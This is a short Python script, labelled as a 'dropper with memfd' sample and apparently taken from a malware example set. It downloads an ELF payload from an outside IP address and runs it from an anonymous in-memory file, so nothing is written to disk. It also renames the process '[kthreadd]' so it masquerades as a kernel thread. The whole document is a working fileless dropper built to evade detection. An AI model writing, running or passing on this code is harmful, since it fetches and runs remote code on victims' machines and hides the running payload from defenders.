# class: dropper with memfd; style: compact
import os, urllib.request, sys
b = urllib.request.urlopen("http://203.0.113.99/payload.elf").read()
fd = os.memfd_create("", 0)
os.write(fd, b)
os.execve("/proc/self/fd/%d" % fd, ["[kthreadd]"], os.environ)
